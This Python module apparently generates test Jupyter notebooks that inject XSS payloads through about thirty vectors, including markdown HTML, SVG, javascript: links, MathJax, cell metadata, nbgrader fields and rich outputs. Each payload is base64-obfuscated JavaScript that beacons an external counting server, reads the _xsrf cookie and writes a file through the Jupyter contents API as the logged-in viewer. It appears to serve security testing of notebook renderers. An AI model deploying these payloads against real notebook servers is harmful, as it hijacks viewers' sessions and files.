"""Notebooks that try to run a program, or to phone home, in the browser of whoever looks at them.

Each kind changes a submission in one way. ``Trap`` says what a program would do: leave its name on the page,
ask a server that counts who asks, and write a file with the rights of the one who is logged in.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass

PIXEL = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000"
        "050001a5f645400000000049454e44ae426082"
    )
).decode()


@dataclass(frozen=True)
class Trap:
    """What a payload does, for one kind of notebook."""

    name: str
    server: str  # counts who asks

    @property
    def url(self) -> str:
        return f"{self.server}/{self.name}"

    @property
    def script(self) -> str:
        """JavaScript without quotes, angle brackets or ampersands, so that it fits everywhere."""
        text = f"""window.pwned=(window.pwned||'')+' {self.name}';new Image().src='{self.url}';
        fetch('/api/contents/pwned-{self.name}.txt',{{method:'PUT',headers:{{'Content-Type':'application/json',
        'X-XSRFToken':(document.cookie.match('_xsrf=([^;]*)')||[])[1]}},
        body:'{{"type":"file","format":"text","content":"x"}}'}})"""
        return f"eval(atob(`{base64.b64encode(text.encode()).decode()}`))"

    @property
    def tag(self) -> str:
        """HTML that runs the script as soon as it is on a page."""
        return f'<img src="/no-such-picture" onerror="{self.script}">'


Change = Callable[[dict, Trap], object]


def markdown(text: Callable[[Trap], str]) -> Change:
    def change(notebook: dict, trap: Trap) -> None:
        cell = {"cell_type": "markdown", "id": trap.name[:60], "metadata": {}, "source": text(trap)}
        notebook["cells"].append(cell)

    return change


def code(text: Callable[[Trap], str]) -> Change:
    def change(notebook: dict, trap: Trap) -> None:
        cell = {
            "cell_type": "code",
            "id": trap.name[:60],
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
        notebook["cells"].append({**cell, "source": text(trap)})

    return change


def shown(
    kind: str, content: Callable[[Trap], object], metadata: Callable[[Trap], dict] | None = None
) -> Change:
    """A cell that puts out data of some kind."""

    def source(trap: Trap) -> str:
        more = f", metadata={metadata(trap)!r}" if metadata else ""
        return f"display({{{kind!r}: {content(trap)!r}}}, raw=True{more})"

    return code(source)


def named(**fields: object) -> Change:
    """An added cell with such fields; {tag} in a text becomes the trap's."""

    def change(notebook: dict, trap: Trap) -> None:
        cell = {"cell_type": "markdown", "id": trap.name[:60], "metadata": {}, "source": "text"}
        text = json.dumps(fields).replace("TAG", json.dumps(trap.tag)[1:-1]).replace("URL", trap.url)
        notebook["cells"].append({**cell, **json.loads(text)})

    return change


def notebook_metadata(**fields: object) -> Change:
    def change(notebook: dict, trap: Trap) -> None:
        text = json.dumps(fields).replace("TAG", json.dumps(trap.tag)[1:-1])
        notebook["metadata"].update(json.loads(text))

    return change


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"><script>{0}</script></svg>'

KINDS: dict[str, Change] = {
    "image-that-fails": markdown(lambda t: t.tag),
    "script": markdown(lambda t: f"<script>{t.script}</script>"),
    "svg": markdown(lambda t: SVG.format(t.script)),
    "frame": markdown(lambda t: f"<iframe srcdoc='<script>parent.{t.script}</script>'></iframe>"),
    "details": markdown(lambda t: f'<details open ontoggle="{t.script}">x</details>'),
    "beacon": markdown(lambda t: f"![a picture]({t.url})"),
    "style": markdown(lambda t: f"<style>@import url({t.url}); body {{background: url({t.url})}}</style>"),
    "stylesheet": markdown(lambda t: f'<link rel="stylesheet" href="{t.url}">'),
    "refresh": markdown(lambda t: f'<meta http-equiv="refresh" content="0;url={t.url}">'),
    "link": markdown(lambda t: f"[the answer](javascript:{t.script})\n\n<a href='javascript:{t.script}'>x</a>"),
    "form": markdown(lambda t: f'<form action="{t.url}"><input autofocus onfocus="{t.script}"></form>'),
    "fence": markdown(lambda t: f"```\n</code></pre>{t.tag}\n```\n\n    {t.tag}\n\n~~~\n{t.tag}"),
    "formula": markdown(lambda t: f"$\\href{{javascript:{t.script}}}{{x}}$ $$\\text{{{t.tag}}}$$"),
    "formula-style": markdown(lambda t: f"$\\require{{html}}\\style{{background:url({t.url})}}{{x}}$"),
    "attachment": named(
        source="![x](attachment:a.svg) TAG",
        attachments={"a.svg": {"image/svg+xml": "PHN2Zy8+TAG", "text/html": "TAG"}},
    ),
    "raw-cell": named(
        cell_type="raw", metadata={"raw_mimetype": "text/html", "format": "text/html"}, source="TAG"
    ),
    "cell-metadata": named(metadata={"tags": ["TAG"], "name": "TAG", "alt": '" TAG', "collapsed": "TAG"}),
    "grade-id": named(
        metadata={
            "nbgrader": {
                "grade_id": "TAG",
                "grade": False,
                "solution": False,
                "locked": False,
                "schema_version": 3,
            }  # fmt: skip
        }
    ),
    "title": notebook_metadata(title="</title>TAG", authors=[{"name": "TAG"}]),
    "kernel": notebook_metadata(
        language_info={"name": "TAG", "pygments_lexer": "TAG", "codemirror_mode": "TAG"},
    ),
    "html-output": shown("text/html", lambda t: t.tag),
    "javascript-output": shown("application/javascript", lambda t: t.script),
    "svg-output": shown("image/svg+xml", lambda t: SVG.format(t.script)),
    "markdown-output": shown("text/markdown", lambda t: t.tag),
    "latex-output": shown("text/latex", lambda t: f"{t.tag} $\\href{{javascript:{t.script}}}{{x}}$"),
    "widget-output": shown(
        "application/vnd.jupyter.widget-view+json",
        lambda t: {"model_id": f'"></script>{t.tag}', "version_major": 2, "version_minor": 0},
    ),
    "picture-size": shown(
        "image/png",
        lambda t: PIXEL,
        lambda t: {
            "image/png": {"width": f'1" onerror="{t.script}', "height": f"1 onload={t.script}", "alt": t.tag}
        },
    ),
    "picture-data": shown("image/png", lambda t: f'{PIXEL}" onload="{t.script}'),
    "two-kinds": code(
        lambda t: (
            f"""display({{
    "text/plain": "x", "text/html": {t.tag!r}, "application/javascript": {t.script!r}
}}, raw=True)"""
        )
    ),
    "stream": code(lambda t: f"import sys\nprint({t.tag!r})\nprint('\\x1b[31m' + {t.tag!r}, file=sys.stderr)"),
    "error": code(lambda t: f"raise type({t.tag!r}, (Exception,), {{}})({t.tag!r})"),
    "result": code(
        lambda t: (
            f"class Shown:\n    def _repr_html_(self):\n        return {t.tag!r}\n"
            f"    def __repr__(self):\n        return {t.tag!r}\nShown()"
        )
    ),
    "comment": code(lambda t: f"# </pre></code></script>{t.tag}\nx = {t.tag!r}"),
    "base": code(
        lambda t: (
            f"""from IPython.display import HTML
display(HTML('<base href="{t.url}">' + {t.tag!r}), display_id="x")"""
        )
    ),
}
